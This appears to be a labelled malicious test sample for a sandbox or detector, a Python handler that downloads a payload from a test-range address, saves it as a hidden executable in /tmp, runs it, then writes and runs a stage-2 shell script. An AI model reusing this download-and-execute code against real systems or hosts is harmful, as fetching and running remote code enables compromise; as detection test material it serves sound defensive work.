"""MALICIOUS example (threat catalogue §1c technique 16): ingress tool transfer and execution
from /tmp.

It downloads http://198.18.0.20/payload (a test address that fnwarden's sandbox makes local to
its own network namespace; the sandbox's egress recorder answers it), stores it in /tmp, marks
it executable and runs it if it is a script or an ELF binary. Whatever came back, it then writes
its own small stage-2 shell script to /tmp, makes it executable and runs it, so the technique
happens even when the download is not runnable. Each step has a timeout of 3 s or less.
"""
import os
import subprocess
import urllib.request

PAYLOAD_URL = "http://198.18.0.20/payload"
DROP = "/tmp/.cache-update"
STAGE2 = "/tmp/update.sh"
STAGE2_SCRIPT = b"""#!/bin/sh
# stage 2 written by the download-exec example: harmless, it only reports where it runs
echo "stage2 pid=$$ cwd=$(pwd)"
"""


def run(path, report, key):
    try:
        done = subprocess.run([path], capture_output=True, timeout=3)
        report[key] = {"exit": done.returncode, "stdout": done.stdout.decode("utf-8", "replace")[:200]}
    except Exception as exc:
        report[key] = {"error": repr(exc)}


def handler(event, context):
    report = {}
    body = b""
    try:
        with urllib.request.urlopen(PAYLOAD_URL, timeout=3) as response:
            body = response.read(1 << 20)
        report["download"] = {"url": PAYLOAD_URL, "bytes": len(body)}
    except Exception as exc:
        report["download"] = {"url": PAYLOAD_URL, "error": repr(exc)}

    try:
        with open(DROP, "wb") as f:
            f.write(body)
        os.chmod(DROP, 0o755)
        report["dropped"] = DROP
        if body.startswith(b"#!") or body.startswith(b"\x7fELF"):
            run(DROP, report, "payload_run")
        else:
            report["payload_run"] = "not runnable (%r...)" % body[:16]

        with open(STAGE2, "wb") as f:
            f.write(STAGE2_SCRIPT)
        os.chmod(STAGE2, 0o755)
        run(STAGE2, report, "stage2_run")
    except OSError as exc:
        report["error"] = repr(exc)
    return report
